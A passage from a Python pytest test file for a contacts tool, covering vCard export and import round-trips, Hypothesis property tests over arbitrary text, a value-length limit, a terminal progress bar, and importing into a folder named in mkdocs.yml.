    fields = ("name", "company", "title", "location", "emails", "phones", "urls", "tags")
    for contact in original:
        copy = imported[contact.name]
        assert [getattr(copy, f) for f in fields] == [getattr(contact, f) for f in fields]
        assert (copy.birthday, copy.body) == (contact.birthday, contact.body)
    assert any(c.birthday and c.birthday.year is None for c in original)  # year-less, too
    assert any(c.birthday and c.birthday.year for c in original)
    assert "skipped 0" in result.output


# Properties

_PRINTABLE = st.characters(
    blacklist_categories=("Cc", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"), blacklist_characters="\ufeff"
)
_WORDS = st.lists(st.text(_PRINTABLE, min_size=1, max_size=12), min_size=1, max_size=4).map(
    " ".join
)
_NOTES = st.lists(
    st.text(
        st.characters(
            blacklist_categories=("Cc", "Cs", "Co", "Cn", "Zl", "Zp"), blacklist_characters="\ufeff"
        ),
        max_size=30,
    ),
    max_size=4,
).map("\n".join)


@settings(max_examples=100, deadline=None)
@given(
    name=_WORDS,
    company=st.none() | _WORDS,
    emails=st.lists(_WORDS, max_size=2, unique_by=str.casefold),
    tags=st.lists(_WORDS, max_size=3, unique_by=str.casefold),
    notes=_NOTES,
)
def test_any_text_survives_a_vcard_export_and_import(name, company, emails, tags, notes):
    contact = Contact(
        slug="someone",
        path="contacts/someone.md",
        name=name,
        company=company,
        emails=tuple(emails),
        urls=tuple(emails),
        tags=tuple(tags),
        body=notes.strip("\n"),
    )
    [person] = read_vcards(vcards([contact])).contacts
    assert person.fields["name"] == name
    assert person.fields.get("company") == company
    assert person.fields.get("email", []) == emails
    assert person.fields.get("url", []) == emails
    assert person.fields.get("tags", []) == tags
    assert person.notes == contact.body


def test_fill_missing_never_writes_a_value_the_reader_would_refuse():
    text = "---\nname: Ann\n---\nNotes.\n"
    with pytest.raises(Unwritable, match="1,200 characters"):
        filled("contacts/ann.md", text, {"name": "Ann", "title": "x" * 1200})
    assert filled("contacts/ann.md", text, {"name": "Ann Other"}) == (text, [])


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("people", "terminal", "shown"), [(150, True, True), (20, True, False), (150, False, False)]
)
def test_a_progress_bar_shows_on_a_terminal_for_a_large_import(
    monkeypatch, people, terminal, shown
):
    stderr = _Terminal() if terminal else io.StringIO()
    monkeypatch.setattr(importing.sys, "stderr", stderr)
    items = tuple(range(people))

    with importing._progress(items) as (going, bar):
        assert list(going) == list(items)

    assert bar is shown
    assert ("Creating contacts" in stderr.getvalue()) is shown


def test_import_goes_into_the_contacts_folder_mkdocs_yml_names(journal):
    (journal / "mkdocs.yml").write_text(
        MINIMAL_MKDOCS.replace("  - netjournal\n", "  - netjournal:\n      contacts: people\n"),
        encoding="utf-8",
    )
    (journal / "people").mkdir()

    result = run("import", "vcard", str(FIXTURES / "outlook.vcf"))

    assert result.exit_code == 0, result.output
    assert "created people/amelie-lefevre.md (Amélie Lefèvre)" in result.output
    assert (journal / "people" / "amelie-lefevre.md").is_file()
    assert list((journal / "contacts").iterdir()) == []
